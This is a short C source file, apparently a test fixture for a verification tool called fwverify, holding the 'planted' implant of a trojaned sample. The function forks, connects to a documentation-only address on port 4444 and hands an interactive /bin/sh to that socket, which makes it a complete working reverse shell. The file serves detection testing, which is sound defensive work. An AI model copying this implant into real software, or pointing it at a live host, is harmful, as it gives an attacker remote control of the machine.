/*
 * The planted part of the trojaned twin B: a reverse shell, to be found by fwverify.
 *
 * Its address is in TEST-NET-2 (RFC 5737), which is assigned to documentation and routed
 * nowhere, so the sample can reach nobody.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

void implant(void)
{
	static char *const arguments[] = { "/bin/sh", "-i", 0 };
	struct sockaddr_in there = { .sin_family = AF_INET, .sin_port = htons(4444) };
	int fd;

	if (fork() != 0)
		return;
	there.sin_addr.s_addr = inet_addr("198.51.100.23");
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (const struct sockaddr *)&there, sizeof(there)) != 0)
		_exit(0);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	execve("/bin/sh", arguments, 0);
	_exit(1);
}
